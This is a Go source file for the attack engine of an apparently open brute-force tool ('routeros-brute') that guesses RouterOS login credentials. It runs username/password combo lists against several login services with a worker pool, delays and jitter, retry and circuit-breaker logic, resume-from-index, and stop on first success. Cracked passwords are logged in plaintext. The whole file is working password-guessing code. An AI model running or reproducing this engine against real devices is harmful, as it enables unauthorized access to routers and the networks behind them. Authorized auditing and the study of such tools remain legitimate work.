package core

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"github.com/nimda/routeros-brute/internal/credentials"
	"github.com/nimda/routeros-brute/internal/interfaces"
	"github.com/nimda/routeros-brute/internal/resilience"
	"github.com/nimda/routeros-brute/pkg/utils"
	"github.com/panjf2000/ants/v2"
	zlog "github.com/rs/zerolog/log"
)

// DefaultWorkers is used when no worker count is configured
const DefaultWorkers = 2

// Event is emitted once per tested combo
type Event struct {
	Index      int
	Credential credentials.Credential
	Outcome    interfaces.Outcome
	// Services lists the services that accepted the credential
	Services []string
	// Err is the last fault when Outcome is OutcomeError
	Err       error
	Transport bool
	Elapsed   time.Duration
	// Watermark is the number of leading combos fully tested after this one
	Watermark int
}

// Success is one accepted credential
type Success struct {
	Credential credentials.Credential
	Services   []string
	FoundAt    time.Time
}

// Summary is the final report of a run
type Summary struct {
	Total           int
	StartIndex      int
	Tested          int
	Successes       []Success
	Failures        int
	Errors          int
	TransportErrors int
	Duration        time.Duration
	Interrupted     bool
	Stopped         bool
	Watermark       int
}

// LikelyUnreachable reports whether transport errors dominate the run, which
// usually means the target is down or filtered rather than every credential
// being wrong.
func (s *Summary) LikelyUnreachable() bool {
	if s.Tested == 0 || len(s.Successes) > 0 {
		return false
	}
	return s.TransportErrors*2 >= s.Tested
}

// Option configures an Engine
type Option func(*Engine)

// WithWorkers sets the worker count, clamped to [1, interfaces.MaxWorkers]
func WithWorkers(n int) Option {
	return func(e *Engine) {
		if n < 1 {
			n = 1
		}
		if n > interfaces.MaxWorkers {
			zlog.Warn().Int("requested", n).Int("max", interfaces.MaxWorkers).Msg("Worker count capped")
			n = interfaces.MaxWorkers
		}
		e.workers = n
	}
}

// WithDelay sets the pause each worker takes after every attempt
func WithDelay(d time.Duration) Option {
	return func(e *Engine) { e.delay = d }
}

// WithJitter adds a random extra pause in [0, d) to every delay
func WithJitter(d time.Duration) Option {
	return func(e *Engine) { e.jitter = d }
}

// WithStopOnSuccess stops claiming new combos after the first success
func WithStopOnSuccess(stop bool) Option {
	return func(e *Engine) { e.stopOnSuccess = stop }
}

// WithResilience installs a wrapper per service. newWrapper is called once per
// service; the wrapper (and its breaker) is shared by all workers.
func WithResilience(newWrapper func(service string) *resilience.Wrapper) Option {
	return func(e *Engine) { e.newWrapper = newWrapper }
}

// WithStartIndex skips combos already tested in an earlier run
func WithStartIndex(idx int) Option {
	return func(e *Engine) { e.startIndex = idx }
}

// WithPriorSuccesses seeds the summary with credentials an earlier run of the
// same session already found. They never trigger stop-on-success.
func WithPriorSuccesses(prior []Success) Option {
	return func(e *Engine) { e.prior = append([]Success(nil), prior...) }
}

// WithEventHandler receives every Event. It is called from worker goroutines.
func WithEventHandler(fn func(Event)) Option {
	return func(e *Engine) { e.onEvent = fn }
}

// WithMetrics sets the metrics sink
func WithMetrics(m interfaces.Metrics) Option {
	return func(e *Engine) { e.metrics = m }
}

// Engine drives login attempts over the combo list with a fixed pool of workers
type Engine struct {
	factories     []interfaces.ClientFactory
	combos        []credentials.Credential
	workers       int
	delay         time.Duration
	jitter        time.Duration
	stopOnSuccess bool
	newWrapper    func(service string) *resilience.Wrapper
	startIndex    int
	prior         []Success
	onEvent       func(Event)
	metrics       interfaces.Metrics

	queue    *ComboQueue
	wrappers map[string]*resilience.Wrapper

	stop     chan struct{}
	stopOnce sync.Once
	stopped  atomic.Bool

	mu        sync.Mutex
	successes []Success

	tested          atomic.Int64
	failures        atomic.Int64
	errorCount      atomic.Int64
	transportErrors atomic.Int64
	startTime       time.Time
}

// NewEngine creates an engine testing every combo against each factory's service
func NewEngine(factories []interfaces.ClientFactory, combos []credentials.Credential, opts ...Option) *Engine {
	e := &Engine{
		factories: factories,
		combos:    combos,
		workers:   DefaultWorkers,
		metrics:   &interfaces.NoopMetrics{},
		stop:      make(chan struct{}),
	}
	for _, opt := range opts {
		opt(e)
	}
	e.queue = NewComboQueue(combos, e.startIndex)
	e.wrappers = make(map[string]*resilience.Wrapper, len(factories))
	if e.newWrapper != nil {
		for _, f := range factories {
			e.wrappers[f.Service()] = e.newWrapper(f.Service())
		}
	}
	return e
}

// Run tests combos until the list is exhausted, a success stops the run, or
// ctx is cancelled. Attempts already in flight always finish. The summary is
// returned even when ctx was cancelled.
func (e *Engine) Run(ctx context.Context) (*Summary, error) {
	if len(e.factories) == 0 {
		return nil, errors.New("no login services configured")
	}

	e.startTime = time.Now()
	remaining := e.queue.Remaining()
	workers := e.workers
	if remaining < workers {
		workers = max(remaining, 1)
	}

	zlog.Info().
		Int("combinations", e.queue.Total()).
		Int("start_index", e.startIndex).
		Int("workers", workers).
		Dur("delay", e.delay).
		Bool("stop_on_success", e.stopOnSuccess).
		Msg("Starting attack")

	pool, err := ants.NewPool(workers, ants.WithPanicHandler(func(p any) {
		zlog.Error().Interface("panic", p).Msg("Worker panicked")
	}))
	if err != nil {
		return nil, fmt.Errorf("failed to create worker pool: %w", err)
	}
	defer pool.Release()

	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		id := i
		wg.Add(1)
		if err := pool.Submit(func() {
			defer wg.Done()
			e.worker(ctx, id)
		}); err != nil {
			wg.Done()
			e.Stop()
			wg.Wait()
			return nil, fmt.Errorf("failed to start worker: %w", err)
		}
	}
	wg.Wait()

	summary := e.summary()
	summary.Interrupted = ctx.Err() != nil && summary.Watermark < summary.Total && !summary.Stopped
	zlog.Info().
		Int("tested", summary.Tested).
		Int("successes", len(summary.Successes)).
		Int("failures", summary.Failures).
		Int("errors", summary.Errors).
		Dur("duration", summary.Duration).
		Bool("interrupted", summary.Interrupted).
		Msg("Attack finished")
	return summary, nil
}

// Stop makes workers exit after their current attempt
func (e *Engine) Stop() {
	e.stopOnce.Do(func() {
		e.stopped.Store(true)
		close(e.stop)
	})
}

func (e *Engine) halted(ctx context.Context) bool {
	if e.stopped.Load() {
		return true
	}
	return ctx.Err() != nil
}

// worker claims combos until none remain or the run is halted
func (e *Engine) worker(ctx context.Context, id int) {
	zlog.Trace().Int("worker_id", id).Msg("Worker started")
	defer zlog.Trace().Int("worker_id", id).Msg("Worker finished")

	for {
		if e.halted(ctx) {
			return
		}
		idx, cred, ok := e.queue.Claim()
		if !ok {
			return
		}

		ev := e.attempt(ctx, idx, cred)
		ev.Watermark = e.queue.Complete(idx)
		e.record(ev)

		if ev.Outcome == interfaces.OutcomeSuccess && e.stopOnSuccess {
			zlog.Info().Int("worker_id", id).Msg("Success found, stopping workers")
			e.Stop()
		}

		if !e.pause(ctx) {
			return
		}
	}
}

// attempt tests one combo against every service. An in-flight attempt is not
// cancelled by ctx; only retry backoff is cut short.
func (e *Engine) attempt(ctx context.Context, idx int, cred credentials.Credential) Event {
	ev := Event{Index: idx, Credential: cred, Outcome: interfaces.OutcomeError}
	loginCtx := context.WithoutCancel(ctx)
	retryCtx, cancel := e.retryContext(ctx)
	defer cancel()

	start := time.Now()
	sawFailure := false
	for _, factory := range e.factories {
		service := factory.Service()
		outcome, err := e.login(loginCtx, retryCtx, factory, cred)

		switch {
		case outcome == interfaces.OutcomeSuccess:
			ev.Services = append(ev.Services, service)
			e.metrics.IncSuccess(service)
		case errors.Is(err, utils.ErrCircuitOpen):
			sawFailure = true
			ev.Transport = true
			e.metrics.IncFailure(service)
		case err != nil:
			ev.Err = err
			if utils.IsTransportError(err) {
				ev.Transport = true
			}
			e.metrics.IncError(service)
		default:
			sawFailure = true
			e.metrics.IncFailure(service)
		}
	}
	ev.Elapsed = time.Since(start)

	switch {
	case len(ev.Services) > 0:
		ev.Outcome = interfaces.OutcomeSuccess
		ev.Err = nil
	case sawFailure:
		ev.Outcome = interfaces.OutcomeFailure
		ev.Err = nil
	}
	return ev
}

func (e *Engine) login(ctx, retryCtx context.Context, factory interfaces.ClientFactory, cred credentials.Credential) (interfaces.Outcome, error) {
	service := factory.Service()
	client, err := factory.CreateClient()
	if err != nil {
		return interfaces.OutcomeError, fmt.Errorf("failed to create %s client: %w", service, err)
	}

	return resilience.Call(retryCtx, e.wrappers[service], func() (interfaces.Outcome, error) {
		e.metrics.IncAttempts(service)
		start := time.Now()
		outcome, err := client.Login(ctx, cred.Username, cred.Password)
		e.metrics.ObserveLatency(service, time.Since(start))
		if err != nil {
			zlog.Debug().
				Err(err).
				Str("service", service).
				Str("username", cred.Username).
				Msg("Login attempt error")
		}
		return outcome, err
	})
}

// retryContext is cancelled by either ctx or Stop
func (e *Engine) retryContext(ctx context.Context) (context.Context, context.CancelFunc) {
	rctx, cancel := context.WithCancel(ctx)
	go func() {
		select {
		case <-e.stop:
			cancel()
		case <-rctx.Done():
		}
	}()
	return rctx, cancel
}

func (e *Engine) record(ev Event) {
	e.tested.Add(1)
	switch ev.Outcome {
	case interfaces.OutcomeSuccess:
		e.mu.Lock()
		e.successes = append(e.successes, Success{
			Credential: ev.Credential,
			Services:   ev.Services,
			FoundAt:    time.Now(),
		})
		e.mu.Unlock()
		zlog.Info().
			Str("username", ev.Credential.Username).
			Str("password", ev.Credential.Password).
			Strs("services", ev.Services).
			Msg("SUCCESS: valid credentials found")
	case interfaces.OutcomeFailure:
		e.failures.Add(1)
		zlog.Trace().
			Str("username", ev.Credential.Username).
			Str("password", ev.Credential.Password).
			Msg("Credentials rejected")
	default:
		e.errorCount.Add(1)
		zlog.Warn().
			Err(ev.Err).
			Str("username", ev.Credential.Username).
			Int("index", ev.Index).
			Msg("Attempt failed with error")
	}
	if ev.Transport {
		e.transportErrors.Add(1)
	}

	if e.onEvent != nil {
		e.onEvent(ev)
	}
}

// pause applies the inter-attempt delay. It returns false if the run was
// halted while waiting.
func (e *Engine) pause(ctx context.Context) bool {
	d := e.delay
	if e.jitter > 0 {
		d += rand.N(e.jitter)
	}
	if d <= 0 {
		return !e.halted(ctx)
	}

	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return true
	case <-e.stop:
		return false
	case <-ctx.Done():
		return false
	}
}

func (e *Engine) summary() *Summary {
	e.mu.Lock()
	successes := mergeSuccesses(e.prior, e.successes)
	e.mu.Unlock()

	return &Summary{
		Total:           e.queue.Total(),
		StartIndex:      e.startIndex,
		Tested:          int(e.tested.Load()),
		Successes:       successes,
		Failures:        int(e.failures.Load()),
		Errors:          int(e.errorCount.Load()),
		TransportErrors: int(e.transportErrors.Load()),
		Duration:        time.Since(e.startTime),
		Stopped:         e.stopped.Load(),
		Watermark:       e.queue.Watermark(),
	}
}

// mergeSuccesses joins prior and found, keyed by username and password. A
// credential found again keeps its first FoundAt and gains any new services.
func mergeSuccesses(prior, found []Success) []Success {
	out := make([]Success, 0, len(prior)+len(found))
	seen := make(map[credentials.Credential]int, len(prior)+len(found))
	for _, s := range append(append([]Success(nil), prior...), found...) {
		if i, ok := seen[s.Credential]; ok {
			for _, svc := range s.Services {
				if !slices.Contains(out[i].Services, svc) {
					out[i].Services = append(out[i].Services, svc)
				}
			}
			continue
		}
		seen[s.Credential] = len(out)
		s.Services = append([]string(nil), s.Services...)
		out = append(out, s)
	}
	return out
}

// Successes returns the credentials accepted so far by this run
func (e *Engine) Successes() []Success {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]Success(nil), e.successes...)
}

// Progress returns the claimed fraction of the combo list (0.0 to 1.0)
func (e *Engine) Progress() float64 {
	return e.queue.Progress()
}

// Stats returns statistics about the current run
func (e *Engine) Stats() map[string]interface{} {
	return map[string]interface{}{
		"started_at":         e.startTime,
		"total_combinations": e.queue.Total(),
		"remaining":          e.queue.Remaining(),
		"progress":           e.Progress(),
		"workers":            e.workers,
		"delay":              e.delay.String(),
		"tested":             e.tested.Load(),
	}
}

// Tested returns the number of combos tested by this run so far
func (e *Engine) Tested() int {
	return int(e.tested.Load())
}
